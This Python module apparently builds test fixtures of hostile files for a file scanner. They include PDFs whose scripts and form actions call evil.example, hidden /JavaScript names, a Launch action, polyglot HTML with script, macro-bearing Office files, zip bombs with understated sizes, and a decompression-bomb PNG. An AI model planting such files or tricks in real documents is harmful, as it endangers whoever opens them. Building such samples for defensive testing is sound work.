"""A corpus of hostile (and ordinary) files, made here byte by byte: nothing is downloaded.

Each builder writes the smallest file of its kind that a real reader opens: a PDF with a
cross-reference table (or a cross-reference stream and a compressed object stream), an
OLE compound file with the streams Word or Excel would look for, office documents as zip
archives, and pictures carrying the metadata a phone writes.
"""

from __future__ import annotations

import io
import struct
import uuid
import zipfile
import zlib

from PIL import ExifTags, Image, PngImagePlugin

# --- PDF ------------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def pdf(
    objects: dict[int, bytes] | None = None,
    *,
    packed: dict[int, bytes] | None = None,
    header: bytes = b"%PDF-1.7\n",
    comment: bytes = b"%\xe2\xe3\xcf\xd3\n",
    tail: bytes = b"",
) -> bytes:
    """A PDF of ``objects`` (number: body; 1-3 default to a catalog, its pages and one
    page), with ``packed`` objects compressed into an object stream (and then a
    cross-reference stream, as PDF 1.5 writes them)."""
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, **(objects or {})}
    packed = packed or {}
    out = bytearray(header + comment)
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not packed:
        size = max(offsets) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            if number in offsets:
                out += b"%010d 00000 n \n" % offsets[number]
            else:
                out += b"0000000000 00000 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out) + tail
    stream_number = max([*offsets, *packed]) + 1
    index, data = b"", b""
    for number, body in sorted(packed.items()):
        index += b"%d %d " % (number, len(data))
        data += body + b"\n"
    compressed = zlib.compress(index + data)
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
        % (stream_number, len(packed), len(index), len(compressed), compressed)
    )
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in packed:
            rows += struct.pack(">BIH", 2, stream_number, sorted(packed).index(number))
        else:
            rows += struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0)
    table = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number, xref_number + 1, len(table), table, offsets[xref_number])
    )
    return bytes(out) + tail


def plain_pdf() -> bytes:
    return pdf()


def pdf_opening_at_a_page_with_a_web_link() -> bytes:
    """Ordinary: opens at page 1, and has a link a reader may click."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
            b"/A << /S /URI /URI (https://www.example.org/post/1) >> >>",
        }
    )


def pdf_with_script_in_an_object_stream() -> bytes:
    """JavaScript run on opening, packed where no byte pattern can see it."""
    return pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>"},
        packed={
            4: b"<< /JavaScript 5 0 R >>",
            5: b"<< /Names [(open) 6 0 R] >>",
            6: b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\)) >>",
        },
    )


def pdf_with_hidden_script_name() -> bytes:
    """/J#61vaScript is /JavaScript to a reader."""
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>"})


def pdf_opening_a_web_address() -> bytes:
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R "
            b"/OpenAction << /S /URI /URI (https://evil.example/track) >> >>"
        }
    )


def pdf_calling_an_address_when_a_page_opens() -> bytes:
    return pdf(
        {
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] "
            b"/AA << /O << /S /SubmitForm /F (https://evil.example/collect) >> >> >>"
        }
    )


def pdf_launching_a_program() -> bytes:
    return pdf(
        {
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
            b"/A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>",
        }
    )


def pdf_with_an_embedded_file() -> bytes:
    program = b"MZ\x90\x00This program cannot be run in DOS mode."
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R "
            b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >> >>",
            4: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
            5: b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream"
            % (len(program), program),
        }
    )


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200


def elf_with_a_pdf_header() -> bytes:
    return b"%PDF-1.4\n" + ELF


def pdf_that_is_also_a_web_page() -> bytes:
    """A browser that sniffs it renders the page; a PDF reader shows the PDF."""
    return pdf(comment=b"%<html><body><script>fetch('/casework/cases/')</script></body></html>\n")


def pdf_with_a_web_page_after_its_end() -> bytes:
    return pdf(tail=b"<html><script>alert(document.cookie)</script></html>\n")


# --- OLE compound files (Word, Excel and PowerPoint 97-2003) ---------------------------------

_FREE, _END, _FAT, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


EXCEL_97 = "00020820-0000-0000-C000-000000000046"
WORD_97 = "00020906-0000-0000-C000-000000000046"


def compound_file(streams: dict[str, bytes], *, kind: str = "") -> bytes:
    """A compound file holding ``streams`` ("Macros/VBA/dir": bytes; storages implied).

    Every stream is padded to 4096 bytes, the size from which streams live in ordinary
    sectors, so that no mini stream is needed."""
    root: dict = {}
    for path, data in streams.items():
        node = root
        *storages, name = path.split("/")
        for storage in storages:
            node = node.setdefault(storage, {})
        node[name] = data.ljust(4096, b"\x00")

    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": root}]
    sectors: list[bytes] = []
    fat: list[int] = []

    def place(data: bytes) -> int:
        first = len(sectors)
        count = (len(data) + 511) // 512
        for i in range(count):
            sectors.append(data[i * 512 : (i + 1) * 512].ljust(512, b"\x00"))
            fat.append(first + i + 1 if i < count - 1 else _END)
        return first

    def add(children: dict) -> int:
        ids = []
        for name, value in children.items():
            entry = {"name": name}
            entries.append(entry)
            ids.append(len(entries) - 1)
            if isinstance(value, dict):
                entry.update(type=1, children=value)
            else:
                entry.update(type=2, start=place(value), size=len(value))
        for index, entry_id in enumerate(ids):  # siblings as a chain of right links
            entries[entry_id]["right"] = ids[index + 1] if index + 1 < len(ids) else _NONE
        for entry_id in ids:
            if entries[entry_id]["type"] == 1:
                entries[entry_id]["child"] = add(entries[entry_id]["children"])
        return ids[0] if ids else _NONE

    entries[0]["child"] = add(root)
    directory = b""
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        directory += (
            name.ljust(64, b"\x00")
            + struct.pack("<HBB", len(name), entry["type"], 1)
            + struct.pack("<III", _NONE, entry.get("right", _NONE), entry.get("child", _NONE))
            + (uuid.UUID(kind).bytes_le if kind and entry["type"] == 5 else bytes(16))
            + b"\x00" * 20
            + struct.pack("<IQ", entry.get("start", _END), entry.get("size", 0))
        )
    directory = directory.ljust(-(-len(directory) // 512) * 512, b"\x00")
    first_directory = place(directory)
    fat_sectors = 1
    while (len(sectors) + fat_sectors) > fat_sectors * 128:
        fat_sectors += 1
    first_fat = len(sectors)
    fat += [_FAT] * fat_sectors
    fat += [_FREE] * (fat_sectors * 128 - len(fat))
    table = struct.pack(f"<{len(fat)}I", *fat)
    for i in range(fat_sectors):
        sectors.append(table[i * 512 : (i + 1) * 512])
    difat = [first_fat + i for i in range(fat_sectors)] + [_FREE] * (109 - fat_sectors)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIII", 0, fat_sectors, first_directory, 0)
        + struct.pack("<IIIII", 4096, _END, 0, _END, 0)
        + struct.pack("<109I", *difat)
    )
    return header + b"".join(sectors)


def _biff(record_type: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", record_type, len(data)) + data


def _sheet(name: str, kind: int) -> bytes:
    """A BOUNDSHEET8 record: kind 0 is a worksheet, 1 an Excel 4.0 macro sheet."""
    encoded = name.encode("latin-1")
    return _biff(0x0085, struct.pack("<IBBBB", 0, 0, kind, len(encoded), 0) + encoded)


def _workbook(*sheets: bytes) -> bytes:
    bof = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    return bof + b"".join(sheets) + _biff(0x000A)


def word_97_document() -> bytes:
    return compound_file({"WordDocument": b"\xec\xa5" + b"\x00" * 30}, kind=WORD_97)


def word_97_document_with_macros() -> bytes:
    return compound_file(
        {
            "WordDocument": b"\xec\xa5" + b"\x00" * 30,
            "Macros/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n',
            "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
            "Macros/VBA/dir": b"\x01\x00\x00",
        },
        kind=WORD_97,
    )


def excel_97_workbook() -> bytes:
    return compound_file({"Workbook": _workbook(_sheet("Sheet1", 0))}, kind=EXCEL_97)


def excel_97_workbook_with_an_xlm_macro_sheet(*, kind: str = EXCEL_97) -> bytes:
    """Excel 4.0 macros: no VBA project at all, only a sheet of the macro kind."""
    sheets = _workbook(_sheet("Sheet1", 0), _sheet("Auto_Open", 1))
    return compound_file({"Workbook": sheets}, kind=kind)


# --- Office documents as zip archives ---------------------------------------------------------


def office_zip(parts: dict[str, bytes | str], *, content_types: str = "<Types/>") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word_document() -> bytes:
    return office_zip({"word/document.xml": "<w:document>Screenshot notes</w:document>"})


def zip_bomb_document(*, zeros: int = 300 * 1024 * 1024) -> bytes:
    """A Word document of about 300 KB holding 300 MB of zeros, written a megabyte at a
    time so that making it costs no memory either."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document>Minutes</w:document>")
        with archive.open("word/media/image1.png", "w", force_zip64=False) as part:
            chunk = bytes(1024 * 1024)
            for _ in range(zeros // len(chunk)):
                part.write(chunk)
    return buffer.getvalue()


def understating(archive: bytes, name: str, *, declared: int = 1000) -> bytes:
    """``archive`` with the entry ``name`` claiming, in both its headers, to unpack to
    ``declared`` bytes: a bomb that hides from a check of the directory alone."""
    data = bytearray(archive)
    encoded = name.encode()
    position = data.find(b"PK\x01\x02")
    while position != -1:
        length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + length] == encoded:
            struct.pack_into("<I", data, position + 24, declared)
            local = struct.unpack_from("<I", data, position + 42)[0]
            struct.pack_into("<I", data, local + 22, declared)
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def password_protected_entries(archive: bytes) -> bytes:
    """``archive`` with every entry flagged as encrypted."""
    data = bytearray(archive)
    position = data.find(b"PK\x01\x02")
    while position != -1:
        data[position + 8] |= 0x1
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def macro_enabled_document() -> bytes:
    return office_zip(
        {"word/document.xml": "<w:document/>", "word/vbaProject.bin": b"\x00macro"},
        content_types=(
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.'
            'main+xml"/></Types>'
        ),
    )


def document_with_a_vba_project_but_ordinary_types() -> bytes:
    return office_zip({"word/document.xml": "<w:document/>", "word/vbaProject.bin": b"\xcc\x61"})


def workbook_with_an_xlm_macro_sheet() -> bytes:
    return office_zip(
        {"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}
    )


def document_with_a_macro_workbook_inside() -> bytes:
    return office_zip(
        {
            "word/document.xml": "<w:document/>",
            "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": b"PK\x03\x04",
        }
    )


def opendocument_with_basic_macros() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("Basic/Standard/Module1.xml", "<script:module/>")
    return buffer.getvalue()


# --- Pictures ---------------------------------------------------------------------------------

# Where the photo was taken: 53°24'N 2°59'W, as a phone writes it.
GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (53.0, 24.0, 0.0),
    ExifTags.GPS.GPSLongitudeRef: "W",
    ExifTags.GPS.GPSLongitude: (2.0, 59.0, 0.0),
}


def phone_exif(*, orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(GPS)
    return exif


def photo(kind: str = "JPEG", *, size=(40, 30), orientation: int = 1) -> bytes:
    """A photo as a phone saves it: EXIF with the camera, the turn and the GPS position."""
    buffer = io.BytesIO()
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 200), (0, 0, size[0] // 2, size[1] // 2))
    exif = phone_exif(orientation=orientation)
    if kind == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "Taken in the school playground")
        image.save(buffer, "PNG", exif=exif, pnginfo=info)
    else:
        image.save(buffer, kind, exif=exif)
    return buffer.getvalue()


def animated_gif_with_a_comment() -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    frames[0].save(
        buffer,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=[100, 200, 300],
        loop=0,
        comment=b"Taken in the school playground",
    )
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture_declaring_a_billion_pixels() -> bytes:
    """A PNG of a few bytes that claims to be 40,000 by 25,000 pixels: decoding it would
    take gigabytes."""
    header = struct.pack(">IIBBBBB", 40000, 25000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + _png_chunk(b"IEND", b"")
    )
